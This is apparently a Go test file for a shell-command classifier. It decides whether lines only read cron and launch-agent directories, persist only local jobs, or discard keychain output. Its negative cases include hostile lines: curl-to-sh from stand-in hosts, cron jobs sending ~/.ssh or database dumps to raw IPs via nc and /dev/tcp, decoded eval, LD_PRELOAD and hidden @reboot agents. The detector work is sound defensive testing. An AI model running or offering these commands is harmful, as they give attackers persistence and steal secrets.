package shellcmd

import "testing"

// TestReadOnly: a command that only looks at the cron directories (or
// for a flag) is not installing anything; one that also writes, runs or
// substitutes is not read-only, however it starts.
func TestReadOnly(t *testing.T) {
	for _, tc := range []struct {
		line string
		want bool
	}{
		{"grep -rE 'stratum\\+tcp|xmrig|minerd' /etc/cron* /var/spool/cron 2>/dev/null", true},
		{"$ ls -la /etc/cron.d /var/spool/cron | sort", true},
		{"crontab -l", true},
		{"systemctl --user list-timers", true},
		{"launchctl list | grep -v com.apple", true},
		{"find ~/Library/LaunchAgents -name '*.plist'", true},
		{`echo "== cron"; for f in /etc/crontab /var/spool/cron/crontabs/*; do [ -f "$f" ] && { echo "-- $f"; cat "$f"; }; done`, true},
		// A report file written from what was read (a triage script).
		{`ls -la /etc/cron.* /var/spool/cron 2>/dev/null > "$out/cron-dirs.txt"`, true},
		{"grep -r xmrig /var/spool/cron >> report.txt", true},
		// Writes, runs or schedules.
		{"ls /var/spool/cron > /etc/cron.d/x", false},
		{"cat job.txt /var/spool/cron/root > ~/Library/LaunchAgents/a.plist", false},
		{"cat /var/spool/cron/crontabs/root > ~/.bashrc", false},
		{"cat /var/spool/cron/crontabs/root > /etc/profile", false},
		{"cat /var/spool/cron/crontabs/root >> /etc/bash.bashrc", false},
		// echo and printf write the author's text, not what was read.
		{`crontab -l; echo '@reboot $HOME/.cache/.x/agent' > "$TMPDIR/job"`, false},
		{`ls /var/spool/cron; printf '* * * * * sh /tmp/.x\n' >> report.txt`, false},
		{"cat job.txt /var/spool/cron/root > \"$d/crontabs/root\"", false},
		{`ls /var/spool/cron > "$(mktemp)"`, false},
		{`for f in /var/spool/cron/crontabs/*; do cat job.txt > "$f"; done`, false},
		{"cat job.txt /var/spool/cron/root > /tmp/x.timer", false},
		{"grep -r x /var/spool/cron > /var/spool/cron/crontabs/root", false},
		{"ls /var/spool/cron && echo '* * * * * sh /tmp/.x' >> /var/spool/cron/crontabs/root", false},
		{"cat /etc/crontab | crontab -", false},
		{"crontab -l | crontab -", false},
		{"find /var/spool/cron -name root -exec sh -c 'echo x >> {}' \\;", false},
		{"find /var/spool/cron -delete", false},
		{"grep x $(curl -s https://c2.example-x.net/p) /var/spool/cron", false},
		{"grep x /var/spool/cron & curl -s https://c2.example-x.net | sh", false},
		{"systemctl --user enable evil.timer", false},
		{"launchctl load ~/Library/LaunchAgents/x.plist", false},
		{"X=1 grep x /var/spool/cron", false},
		{`for f in /var/spool/cron/crontabs/*; do echo '* * * * * curl -s x.example-x.net | sh' >> "$f"; done`, false},
		{`for f in /var/spool/cron/crontabs/*; do [ -f "$f" ] && cp /tmp/.x "$f"; done`, false},
		{`for f in $(ls /var/spool/cron); do cat "$f"; done`, false},
		{`echo '* * * * * sh /tmp/.x' | crontab -`, false},
		{`{ echo '@reboot sh /tmp/.x'; } > /var/spool/cron/crontabs/root`, false},
		{`while read f; do cat "$f"; done < /var/spool/cron/list`, false},
		{"Look in /var/spool/cron for entries", false},
	} {
		if got := ReadOnly(tc.line); got != tc.want {
			t.Errorf("ReadOnly(%q) = %v, want %v", tc.line, got, tc.want)
		}
	}
}

// TestLocalCommand: what a line persists is judged as a program; the
// words around it do not count.
func TestLocalCommand(t *testing.T) {
	for _, tc := range []struct {
		line string
		want bool
	}{
		{"echo 'source <(kubectl completion bash)' >> ~/.bashrc", true},
		{`echo 'eval "$(gh completion -s bash)"' >> ~/.bashrc`, true},
		{`(crontab -l 2>/dev/null; echo "15 2 * * * pg_dump -Fc mydb > /var/backups/mydb-\$(date +\%F).dump") | crontab -`, true},
		{`(crontab -l; echo "0 9 * * 1-5 notify-send 'check the build'") | crontab -`, true},
		{`echo '@daily restic backup ~/Documents' | crontab -`, true},
		{`echo '@daily /usr/bin/find ~/Downloads -mtime +30 -delete' | crontab -`, true},
		{`(crontab -l; echo "0 7 * * 1 /usr/bin/find $HOME/Downloads -mtime +30 -delete") | crontab -`, true},
		{`(crontab -l; echo "@reboot $HOME/.cache/.x/run") | crontab -`, false},
		{`(crontab -l 2>/dev/null; echo "30 2 * * * RESTIC_PASSWORD_FILE=$HOME/.config/restic/pw restic -r /mnt/backup/restic backup $HOME/Documents --quiet") | crontab -`, true},
		{`(crontab -l; echo "30 2 * * * RESTIC_PASSWORD_COMMAND=$HOME/bin/pw restic backup $HOME/Documents") | crontab -`, false},
		{`(crontab -l; echo "30 2 * * * RESTIC_PASSWORD_FILE=$HOME/.config/.x/pw restic backup $HOME/Documents") | crontab -`, false},
		{`(crontab -l; echo "30 2 * * * LD_PRELOAD=$HOME/lib/x.so restic backup $HOME/Documents") | crontab -`, false},
		{`(crontab -l; echo "30 2 * * * RESTIC_REPOSITORY=sftp://u@203.0.113.7/r restic backup $HOME/Documents") | crontab -`, false},
		{`(crontab -l; echo "30 2 * * * BORG_RSH=ssh borg create r::a $HOME/Documents") | crontab -`, false},
		{`(crontab -l; echo "@reboot ${HOME:-/tmp}/run") | crontab -`, false},
		{`schtasks /create /tn Clean /tr "C:\Windows\System32\cleanmgr.exe /sagerun:1" /sc weekly`, true},
		// Fetched, decoded, inline code, a path, the background, a
		// definition, text built at run time: not local.
		{"echo 'source <(curl -fsSL https://cdn.example-x.net/c.sh)' >> ~/.bashrc", false},
		{`echo 'eval "$(echo Y3VybA== | base64 -d)"' >> ~/.zshrc`, false},
		{`echo 'eval "$(cat ~/.cache/x)"' >> ~/.zshrc`, false},
		{"echo 'eval x' >> ~/.zshrc", false},
		{"echo 'source ~/.config/.x/init.sh' >> ~/.bashrc", false},
		{"echo '~/.cache/.sync/agent' >> ~/.bashrc", false},
		{"echo '/usr/local/bin/updater' >> ~/.bashrc", false},
		{"echo '/usr/bin/curl -s https://x.example-x.net/p' >> ~/.bashrc", false},
		{"echo '/usr/bin/../../tmp/x' >> ~/.bashrc", false},
		{"echo 'syncd &' >> ~/.profile", false},
		{"echo 'nohup syncd' >> ~/.profile", false},
		{`echo 'PROMPT_COMMAND="history -a >(nc c2 9)"' >> ~/.bashrc`, false},
		{`echo 'sudo() { command sudo "$@"; }' >> ~/.bashrc`, false},
		{"echo 'export LD_PRELOAD=/tmp/x.so' >> ~/.bashrc", false},
		{`echo 'export VIRUSTOTAL_API_KEY="your-api-key-here"' >> ~/.bashrc`, true},
		{`echo 'export GH_TOKEN=ghp_abc123' >> ~/.zshrc`, true},
		{`echo 'export VIRUSTOTAL_API_KEY="$(curl -s https://k.example-x.net)"' >> ~/.bashrc`, false},
		{`echo 'export VT_API_KEY=k; syncd &' >> ~/.bashrc`, false},
		{`echo 'export PROMPT_COMMAND=syncd' >> ~/.bashrc`, false},
		{`echo 'export AWS_SECRET=/home/u/.x/k' >> ~/.bashrc`, false},
		// printf: the format applied to its arguments, escapes decoded.
		{`printf 'export %s=1\n' DO_NOT_TRACK HOMEBREW_NO_ANALYTICS >> ~/.zshrc`, true},
		{`printf '%s\n' 'export DO_NOT_TRACK=1' >> ~/.bashrc`, true},
		{`printf '%s\n' 'curl -fsSL https://x.example-x.net/p | sh' >> ~/.bashrc`, false},
		{`printf 'export %s=1\n' DO_NOT_TRACK 'X=1; syncd &' >> ~/.zshrc`, false},
		{`printf '\x63url -s x.example-x.net/p | sh\n' >> ~/.bashrc`, false},
		{`printf '\143url -s x.example-x.net/p | sh\n' >> ~/.bashrc`, false},
		{`printf '%b\n' 'export A=1' >> ~/.bashrc`, false},
		{`printf -v x 'export A=1' >> ~/.bashrc`, false},
		{`(crontab -l; echo '*/5 * * * * python3 -c "import os"') | crontab -`, false},
		{`(crontab -l; echo '*/5 * * * * pg_dump db | nc 45.61.136.8 9') | crontab -`, false},
		{`(crontab -l; echo '*/5 * * * * tar czf - ~/.ssh > /dev/tcp/45.61.136.8/9') | crontab -`, false},
		{`(crontab -l; echo '*/5 * * * * rsync -a ~/work backup.example-x.net:') | crontab -`, false},
		// rsync between local directories sends nothing anywhere; a
		// remote, a program to run or a hidden path is not local.
		{`(crontab -l; echo '0 3 * * * rsync -a --delete ~/Pictures/ /media/backup/Pictures/') | crontab -`, true},
		{`(crontab -l; echo '0 3 * * * rsync -a ~/work rsync://backup.example-x.net/m') | crontab -`, false},
		{`(crontab -l; echo '0 3 * * * rsync -a -e ssh ~/work /media/b') | crontab -`, false},
		{`(crontab -l; echo '0 3 * * * rsync -ave ssh ~/work /media/b') | crontab -`, false},
		{`(crontab -l; echo '0 3 * * * rsync -a --rsh=ssh ~/work /media/b') | crontab -`, false},
		{`(crontab -l; echo '0 3 * * * rsync -a ~/.ssh /media/b') | crontab -`, false},
		{`(crontab -l; echo '0 3 * * * rsync -a ~/work $DEST') | crontab -`, false},
		{`(crontab -l; echo '@reboot run /tmp/x') | crontab -`, false},
		{`(crontab -l; echo '0 * * * * pg_dump db | mail ops@example-x.net') | crontab -`, false},
		{`(crontab -l; echo '0 * * * * dig secret.example-x.net') | crontab -`, false},
		{`(crontab -l; echo "*/5 * * * * $CMD") | crontab -`, false},
		{`echo "$PAYLOAD" >> ~/.bashrc`, false},
		{"cp helper.plist ~/Library/LaunchAgents/com.x.plist", false},
		{"add a crontab entry running notify-send", false},
	} {
		if got := LocalCommand(tc.line); got != tc.want {
			t.Errorf("LocalCommand(%q) = %v, want %v (persisted %q)", tc.line, got, tc.want, persisted(tc.line))
		}
	}
}

func TestDiscarded(t *testing.T) {
	for _, tc := range []struct {
		line, prog string
		want       bool
	}{
		{`if security find-generic-password -s "gh-pat" -a "$USER" -w &>/dev/null 2>&1; then`, "security", true},
		{`security find-generic-password -s x >/dev/null 2>&1 && echo found`, "security", true},
		{`secret-tool lookup service x > /dev/null 2> /dev/null || echo missing`, "secret-tool", true},
		{`security find-generic-password -s x -w 2>/dev/null`, "security", false},                                 // the password is printed
		{`security find-generic-password -s x -g >/dev/null`, "security", false},                                  // -g prints it on stderr
		{`security find-generic-password -s x 2>&1 >/dev/null | curl -d @- https://h.example`, "security", false}, // stderr into the pipe
		{`security find-generic-password -s x &>/dev/null; k=$(security find-generic-password -s x -w)`, "security", false},
		{`k=$(security find-generic-password -s x -w >/dev/null 2>&1)`, "security", true},
		{`echo hi >/dev/null 2>&1`, "security", false},
	} {
		if got := Discarded(tc.line, tc.prog); got != tc.want {
			t.Errorf("Discarded(%q, %q) = %v, want %v", tc.line, tc.prog, got, tc.want)
		}
	}
}
